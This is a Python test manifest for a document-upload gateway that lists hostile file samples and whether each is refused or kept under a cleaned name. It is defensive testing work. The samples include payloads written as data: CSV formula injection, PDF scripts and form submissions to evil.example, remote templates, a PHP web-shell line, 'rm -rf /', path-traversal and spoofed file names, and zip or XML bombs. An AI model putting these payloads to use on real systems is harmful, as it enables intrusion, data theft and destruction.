"""The manifest: every kind of hostile file, and what becomes of it. 100 % of them are as it says.

``refused``: nothing is kept, and the code says why. ``kept_as``: it is taken
under that name, because it cannot act from where it lies: under a random name
without an ending, handed over as an attachment of no type, shut, never opened
by us.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import dataclass

from dps.gateways.documents import LARGEST
from tests.hostile.making import (
    EICAR,
    LAUGHS,
    MAIN,
    MB,
    OLE,
    TYPES,
    by_count,
    central,
    document,
    jpeg,
    link_zip,
    nested,
    noughts,
    office,
    opendocument,
    overlapped,
    packed_noughts,
    packed_pdf,
    pdf,
    png,
    png_piece,
    quoted_overlap,
    related,
    zipped,
)

JS = b"<</S/JavaScript/JS(app.alert(1))>>"


@dataclass(frozen=True)
class Kind:
    """One kind: the name it comes under, how it is made, and what becomes of it (one of the two)."""

    name: str
    make: Callable[[], bytes]
    refused: str = ""
    kept_as: str = ""


def _refused(code: str, **kinds: tuple[str, Callable[[], bytes]]) -> dict[str, Kind]:
    return {words.replace("_", " "): Kind(name, make, refused=code) for words, (name, make) in kinds.items()}


MANIFEST: dict[str, Kind] = {
    # Size and kind
    **_refused("file-empty", nothing=("a.pdf", lambda: b"")),
    **_refused("file-too-large", one_byte_too_many=("a.txt", lambda: b"x" * (LARGEST + 1))),
    **_refused(
        "file-kind",
        a_program=("a.exe", lambda: b"MZ"),
        no_ending=("offer", pdf),
        an_SVG_with_a_script=("a.svg", lambda: b"<svg onload='alert(1)'/>"),
        a_page=("a.html", lambda: b"<script>"),
        a_shortcut=("a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0"),
        a_macro_document_by_name=("a.docm", office),
        a_macro_workbook_by_name=("a.xlsm", lambda: office("xlsx")),
        a_plain_zip=("a.zip", office),
        a_rich_text=("a.rtf", lambda: b"{\\rtf1{\\object\\objdata 01}}"),
        an_old_Word_file=("a.doc", lambda: OLE),
        a_GIF=("a.gif", lambda: b"GIF89a"),
        a_file_for_the_web_server=(".htaccess", lambda: b"AddHandler cgi-script .pdf"),
        a_program_behind_a_turned_name=("offer\u202efdp.exe", pdf),
        a_program_behind_two_endings=("offer.pdf.exe", pdf),
        a_program_behind_a_trailing_dot=("offer.exe. .", pdf),
        a_program_behind_a_NUL=("offer.pdf\0.exe", pdf),
        a_program_in_another_stream_of_the_name=("offer.pdf:evil.exe", pdf),
        a_device_as_a_name=("NUL", pdf),
    ),
    **_refused("file-name-double", a_program_inside_the_name=("offer.exe.pdf", pdf)),
    # Names: taken under another
    "a path upwards as a name": Kind("../../etc/passwd.pdf", pdf, kept_as="passwd.pdf"),
    "a Windows path as a name": Kind("C:\\Windows\\offer.pdf", pdf, kept_as="offer.pdf"),
    "a device with an ending": Kind("CON.pdf", pdf, kept_as="_CON.pdf"),
    "a turned name": Kind("offer\u202exslx.pdf", pdf, kept_as="offerxslx.pdf"),
    "a name of 300 letters": Kind("x" * 300 + ".pdf", pdf, kept_as="x" * 146 + ".pdf"),
    "a name of 300 letters in 600 bytes": Kind("é" * 300 + ".pdf", pdf, kept_as="é" * 118 + ".pdf"),
    "a name with a line break and a header": Kind("a\r\nSet-Cookie: x.pdf", pdf, kept_as="a Set-Cookie- x.pdf"),
    "a name with markup": Kind("<img src=x onerror=alert(1)>.pdf", pdf, kept_as="-img src=x onerror=alert(1)-.pdf"),
    "a name that ends in dots": Kind("offer.pdf...", pdf, kept_as="offer.pdf"),
    # PDF
    **_refused(
        "file-not-its-kind",
        a_page_as_a_PDF=("a.pdf", lambda: b"<html>%PDF-1.7 %%EOF"),
        a_PDF_that_begins_late=("a.pdf", lambda: b"\n" + pdf()),
        a_PDF_behind_a_script=("a.pdf", lambda: b"/*" + pdf() + b"*/alert(1)"),
        a_GIF_that_is_a_PDF_too=("a.pdf", lambda: b"GIF89a" + pdf()),
        a_PDF_cut_short=("a.pdf", lambda: pdf()[:-8]),
        a_PDF_as_Word=("a.docx", pdf),
        a_rich_text_as_Word=("a.docx", lambda: b"{\\rtf1{\\object\\objdata 01}}"),
        a_page_as_Excel=("a.xlsx", lambda: b"<html><table><tr><td>=1+1"),
        a_zip_as_Word=("a.docx", lambda: zipped({"a.txt": b"x"})),
        Excel_as_Word=("a.docx", lambda: office("xlsx")),
        a_sheet_as_a_text=("a.odt", lambda: opendocument("spreadsheet")),
        a_PNG_that_is_a_JPEG=("a.png", jpeg),
        a_PNG_that_is_an_SVG=("a.png", lambda: b"<svg onload='alert(1)'/>"),
        a_PNG_cut_short=("a.png", lambda: png()[:-5]),
        a_PNG_with_a_tail=("a.png", lambda: png() + b"<script>"),
        a_PNG_without_a_size=("a.png", lambda: png()[:8] + png()[33:]),
        a_JPEG_without_a_frame=("a.jpg", lambda: b"\xff\xd8\xff\xda\x00\x02 \xff\xd9"),
        a_rich_text_as_plain_text=("a.txt", lambda: b"{\\rtf1{\\object\\objdata 01}}"),
        a_page_as_plain_text=("a.txt", lambda: b"\n <!DOCTYPE html><script>"),
        a_PDF_as_plain_text=("a.txt", lambda: b"%PDF-1.7\n%%EOF\n"),
        a_script_as_plain_text=("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
        lengths_of_nothing=("a.png", lambda: png()[:33] + b"\0\0\0\0IDAT\0\0\0\0" * 800_000),
        fill_bytes=("a.jpg", lambda: b"\xff\xd8" + b"\xff" * (LARGEST - 4) + b"\xff\xd9"),
    ),
    **_refused(
        "file-locked",
        a_locked_PDF=("a.pdf", lambda: pdf(b"/Encrypt 5 0 R")),
        a_locked_PDF_spelled_oddly=("a.pdf", lambda: pdf(b"/#45ncryp#74 5 0 R")),
        an_old_or_locked_Word_file=("a.docx", lambda: OLE),
        a_locked_OpenDocument=(
            "a.odt",
            lambda: opendocument(
                more={"META-INF/manifest.xml": b"<m:manifest xmlns:m='x'><m:encryption-data/></m:manifest>"}
            ),
        ),
        a_locked_entry=("a.docx", lambda: central(office(), 8, b"\x01\x00")),
    ),
    **_refused(
        "file-active",
        a_PDF_with_a_script=("a.pdf", lambda: pdf(b"/OpenAction " + JS)),
        a_PDF_with_a_script_spelled_oddly=("a.pdf", lambda: pdf(b"/S/#4aavaScript /#4aS (x)")),
        a_PDF_with_a_script_spelled_in_capitals=("a.pdf", lambda: pdf(b"/#4AS (x)")),
        a_PDF_that_launches=("a.pdf", lambda: pdf(b"/S/Launch/F(calc.exe)")),
        a_PDF_with_a_file_inside=("a.pdf", lambda: pdf(b"/Names <</EmbeddedFiles 4 0 R>>")),
        a_PDF_with_a_rich_medium=("a.pdf", lambda: pdf(b"/Subtype/RichMedia")),
        a_PDF_with_a_form_that_runs=("a.pdf", lambda: pdf(b"/AcroForm<</XFA 5 0 R>>")),
        a_PDF_with_a_form_that_sends=("a.pdf", lambda: pdf(b"/S/SubmitForm/F(https://evil.example)")),
        a_PDF_that_opens_another=("a.pdf", lambda: pdf(b"/S/GoToR/F(\\\\\\\\evil.example\\\\share)")),
        a_PDF_with_a_packed_script=("a.pdf", lambda: packed_pdf(JS)),
        a_PDF_with_a_packed_file=("a.pdf", lambda: packed_pdf(b"<</EmbeddedFiles 4 0 R>>")),
        a_PDF_with_a_script_in_a_picture=("a.pdf", lambda: pdf(stream=b"\x89JFIF 5 0 obj " + JS + b" endobj")),
        a_PDF_with_a_script_in_a_stream_of_words=(
            "a.pdf",
            lambda: pdf(b"%>>stream\n/S/JavaScript/JS(x)%endstream\n"),
        ),
    ),
    **_refused(
        "file-hides",
        a_PDF_that_packs_too_much=("a.pdf", lambda: packed_pdf(b" " * (30 * MB))),
        a_PDF_that_packs_in_an_odd_way=(
            "a.pdf",
            lambda: packed_pdf(JS, b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/N 1>>"),
        ),
        a_PDF_that_packs_and_shifts=(
            "a.pdf",
            lambda: packed_pdf(JS, b"<</Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>/N 1>>"),
        ),
        a_PDF_whose_pack_is_behind_a_false_stream=(
            "a.pdf",
            lambda: pdf(b"%>>stream\n", stream=zlib.compress(JS), head=b"4 0 obj <</Type/ObjStm/Filter/FlateDecode>>"),
        ),
        a_PDF_of_streams_without_end=("a.pdf", lambda: b"%PDF-" + b"stream endstream\n" * 60_000 + b"%%EOF"),
    ),
    **_refused(
        "file-two-kinds",
        a_PDF_that_is_a_zip=("a.pdf", lambda: pdf() + office() + b"%%EOF"),
        a_JPEG_that_is_a_zip=("a.jpg", lambda: jpeg() + office() + b"\xff\xd9"),
        something_after_the_zip=("a.docx", lambda: office() + b"x"),
    ),
    "a PDF with a page in a comment": Kind("a.pdf", lambda: pdf(b"\n%<script>alert(1)</script>\n"), kept_as="a.pdf"),
    "a PDF that a script reader takes for a script": Kind(
        "a.pdf", lambda: pdf(b"\n%*/=0;alert(1)//\n"), kept_as="a.pdf"
    ),
    "a PDF with a link": Kind("a.pdf", lambda: pdf(b"/A<</S/URI/URI(https://example.org)>>"), kept_as="a.pdf"),
    # Pictures
    **_refused(
        "file-pixels",
        a_vast_PNG=("a.png", lambda: png(50_000, 50_000)),
        a_vast_JPEG=("a.jpg", lambda: jpeg(50_000, 50_000)),
        a_PNG_of_no_size=("a.png", lambda: png(0, 5)),
    ),
    "a PNG whose text unpacks to 100 MB": Kind(
        "a.png", lambda: png(more=png_piece(b"zTXt", b"a\0\0" + packed_noughts(100, bits=15))), kept_as="a.png"
    ),
    "a JPEG with a script in its comment": Kind(
        "a.jpg", lambda: jpeg(comment=b"<?php system($_GET[0]) ?><script>alert(1)</script>"), kept_as="a.jpg"
    ),
    # Text
    **_refused(
        "file-not-text",
        text_with_a_NUL=("a.txt", lambda: b"a\0b"),
        text_with_an_escape=("a.txt", lambda: b"\x1b[2J"),
        text_that_is_not_UTF_8=("a.csv", lambda: b"caf\xe9"),
        a_packed_file_as_text=("a.txt", lambda: b"\x1f\x8b\x08\0" + zlib.compress(b"x")),
    ),
    **_refused(
        "file-formulas",
        a_CSV_that_runs_a_program=("a.csv", lambda: b"item,pence\n=cmd|' /C calc'!A0,1\n"),
        a_CSV_that_runs_one_behind_a_sign=("a.csv", lambda: b"item,pence\nx,-cmd|' /C calc'!A0\n"),
        a_CSV_that_fetches=("a.csv", lambda: b'item,pence\n"=WEBSERVICE(""https://evil.example"")",1\n'),
        a_CSV_with_a_formula_of_another_width=("a.csv", "a;＝1+1\n".encode),
        a_CSV_with_a_formula_behind_a_blank=("a.csv", lambda: b"a,\t =1+1\n"),
        a_CSV_with_a_function_behind_an_at_sign=("a.csv", lambda: b"@SUM(1+1)\n"),
    ),
    "a CSV with signs that are no formulas": Kind(
        "a.csv", lambda: b"item,pence,phone\n- a dash,-5.50,+44 1632 960123\n@handle,+3,x\n", kept_as="a.csv"
    ),
    **_refused(
        "file-virus-test",
        the_virus_test=("a.txt", lambda: EICAR),
        the_virus_test_in_a_PDF=("a.pdf", lambda: pdf(stream=EICAR)),
        the_virus_test_packed_in_Word=("a.docx", lambda: office(more={"word/media/a.bin": b"x" * 500 + EICAR})),
    ),
    # Office files: what runs
    **_refused(
        "file-macros",
        macros=("a.docx", lambda: office(more={"word/vbaProject.bin": b"x"})),
        macros_by_another_case=("a.xlsx", lambda: office("xlsx", {"xl/VBAPROJECT.BIN": b"x"})),
        macros_by_their_type=(
            "a.docx",
            lambda: zipped(
                {
                    "[Content_Types].xml": TYPES.replace(b"application/main", b"application/x.macro&#69;nabled"),
                    MAIN["docx"]: b"<w/>",
                }
            ),
        ),
        macros_of_1992=("a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<m/>"})),
        a_control=("a.docx", lambda: office(more={"word/activeX/activeX1.xml": b"<a/>"})),
        an_OpenDocument_macro=("a.odt", lambda: opendocument(more={"Basic/Standard/M.xml": b"<m/>"})),
        an_OpenDocument_that_calls_a_macro_elsewhere=(
            "a.odt",
            lambda: opendocument(more={"content.xml": b"<s:event-listener x:href='vnd.sun.star.script:a.py$run'/>"}),
        ),
        macros_one_layer_down=(
            "a.docx",
            lambda: office(more={"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
        ),
    ),
    **_refused(
        "file-runs",
        a_field_that_runs_a_program=("a.docx", lambda: document(b"<w:fldSimple w:instr=' DDEAUTO c:\\\\x calc '/>")),
        a_field_that_runs_one_in_pieces=(
            "a.docx",
            lambda: document(
                b"<w:fldChar w:fldCharType='begin'/><w:instrText> DD</w:instrText><w:instrText>&#69;AUTO cmd</w:instrText>"
                b"<w:fldChar w:fldCharType='end'/>"
            ),
        ),
        a_field_that_runs_one_in_UTF_16=(
            "a.docx",
            lambda: zipped(
                {
                    "[Content_Types].xml": TYPES,
                    MAIN["docx"]: "<d><i:instrText>DDE cmd</i:instrText></d>".encode("utf-16"),
                }
            ),
        ),
        a_workbook_that_runs_a_program=(
            "a.xlsx",
            lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<e><ddeLink ddeService='cmd'/></e>"}),
        ),
        a_sheet_that_runs_a_program=(
            "a.ods",
            lambda: opendocument("spreadsheet", {"content.xml": b"<o:dde-source o:dde-application='cmd'/>"}),
        ),
    ),
    # Office files: what loads
    **_refused(
        "file-loads",
        a_template_from_afar=("a.docx", lambda: related("attachedTemplate", "https://evil.example/t.dotm")),
        a_template_from_afar_spelled_oddly=(
            "a.docx",
            lambda: related("attachedTemplate", "&#104;ttps://evil.example/t"),
        ),
        an_object_from_a_share=("a.docx", lambda: related("oleObject", "file://server/share")),
        a_picture_from_a_share=("a.docx", lambda: related("image", "\\\\evil.example\\a.png")),
        a_picture_that_tells_who_reads=("a.pptx", lambda: related("image", "http://evil.example/1.gif", "pptx")),
        a_workbook_elsewhere=("a.xlsx", lambda: related("externalLinkPath", "https://evil.example/a.xlsx", "xlsx")),
        a_workbook_with_a_query=(
            "a.xlsx",
            lambda: office("xlsx", {"xl/connections.xml": b"<c><webPr url='https://evil.example'/></c>"}),
        ),
        a_field_that_fetches_a_picture=(
            "a.docx",
            lambda: document(b"<w:fldSimple w:instr='INCLUDEPICTURE &quot;https://evil.example/a&quot;'/>"),
        ),
        an_OpenDocument_picture_from_afar=(
            "a.odt",
            lambda: opendocument(more={"content.xml": b"<draw:image xlink:href='http://evil.example/a.png'/>"}),
        ),
    ),
    **_refused(
        "file-embeds",
        an_embedded_object=("a.docx", lambda: office(more={"word/embeddings/oleObject1.bin": OLE})),
        an_embedded_program=("a.docx", lambda: office(more={"word/media/image1.png": b"MZ\x90"})),
        an_embedded_script_by_its_ending=("a.docx", lambda: office(more={"word/media/run.vbs": b"x"})),
        an_embedded_shortcut=("a.docx", lambda: office(more={"word/media/a.bin": b"L\0\0\0\x01\x14\x02\0"})),
        a_document_of_another_kind_inside=("a.docx", lambda: related("aFChunk", "afchunk.dat")),
        a_rich_text_inside=("a.docx", lambda: office(more={"word/afchunk.dat": b"{\\rtf1}"})),
        a_mail_page_inside=("a.docx", lambda: office(more={"word/afchunk.dat": b"MIME-Version: 1.0"})),
    ),
    **_refused(
        "file-entities",
        a_billion_laughs=("a.docx", lambda: office(more={"word/styles.xml": LAUGHS})),
        a_billion_laughs_in_Excel_in_UTF_16=(
            "a.xlsx",
            lambda: office("xlsx", {"xl/styles.xml": LAUGHS.decode().encode("utf-16")}),
        ),
        laughs_in_the_types=("a.docx", lambda: zipped({"[Content_Types].xml": LAUGHS, MAIN["docx"]: b"<w/>"})),
        an_entity_from_a_file=("a.docx", lambda: office(more={"word/a.xml": b"<!DOCTYPE a SYSTEM 'file:///x'>"})),
    ),
    **_refused(
        "file-code",
        XML_in_a_code_that_hides=(
            "a.docx",
            lambda: office(more={"word/a.xml": b"<?xml version='1.0' encoding='utf-7'?>+ADwAIQ-DOCTYPE"}),
        ),
        XML_in_four_bytes_a_letter=("a.docx", lambda: office(more={"word/a.xml": "<a/>".encode("utf-32")})),
    ),
    # Zips
    **_refused(
        "zip-nested",
        a_nested_zip=("a.docx", lambda: nested(1)),
        a_zip_sixteen_layers_deep=("a.docx", lambda: nested(16)),
        a_zip_two_layers_down=(
            "a.docx",
            lambda: office(more={"word/embeddings/a.xlsx": office("xlsx", {"xl/embeddings/b.xlsx": office("xlsx")})}),
        ),
    ),
    **_refused(
        "zip-path",
        a_path_upwards=("a.docx", lambda: office(more={"../../evil": b"x"})),
        an_absolute_path=("a.docx", lambda: office(more={"/etc/cron": b"x"})),
        a_Windows_path=("a.docx", lambda: office(more={"C:\\evil": b"x"})),
    ),
    **_refused("zip-link", a_link=("a.docx", link_zip)),
    **_refused("zip-twice", one_name_twice=("a.docx", lambda: office(more={"WORD/document.xml": b"x"}))),
    **_refused("zip-overlap", an_entry_over_the_next=("a.docx", quoted_overlap)),
    **_refused(
        "zip-lies",
        overlapped_entries=("a.docx", overlapped),
        a_size_that_lies_low=("a.docx", lambda: central(office(), 24, b"\3\0\0\0")),
        a_size_that_lies_high=("a.docx", lambda: central(office(), 24, b"\x0f\x27\0\0")),
        a_checksum_that_lies=("a.docx", lambda: central(office(), 16, b"\0\0\0\0")),
        a_name_told_in_two_ways=("a.docx", lambda: central(office(), 46, b"x")),
        a_gigabyte_that_says_it_is_small=("a.docx", lambda: noughts(1024, says=5_000)),
    ),
    **_refused(
        "zip-odd",
        another_way_of_packing=("a.docx", lambda: central(office(), 10, b"\x0c\x00")),
        a_size_of_another_time=("a.docx", lambda: central(office(), 24, b"\xff" * 4)),
        a_hundred_thousand_entries=("a.docx", lambda: by_count(100_000)),
        relationships_by_the_million=(
            "a.docx",
            lambda: office(more={"word/_rels/a.rels": b"<R>" + b"<a/>" * 300_000 + b"</R>"}),
        ),
    ),
    **_refused(
        "zip-damaged",
        cut_short=("a.docx", lambda: office()[:-30]),
        types_that_are_not_XML=("a.docx", lambda: zipped({"[Content_Types].xml": b"<Types", MAIN["docx"]: b"<w/>"})),
        relationships_without_end=(
            "a.docx",
            lambda: office(more={"word/_rels/a.rels": b"<Relationship Type='" * 50_000}),
        ),
    ),
    **_refused("zip-entries", forty_thousand_entries=("a.docx", lambda: by_count(40_000))),
    **_refused(
        "zip-bomb",
        a_gigabyte_of_noughts=("a.docx", lambda: noughts(1024)),
        many_entries_of_much=("a.xlsx", lambda: noughts(4, ending="xlsx", entries=40)),
        a_hundredfold_one_layer_down=(
            "a.docx",
            lambda: office(more={f"word/embeddings/{n}.xlsx": noughts(60, ending="xlsx") for n in range(2)}),
        ),
    ),
}
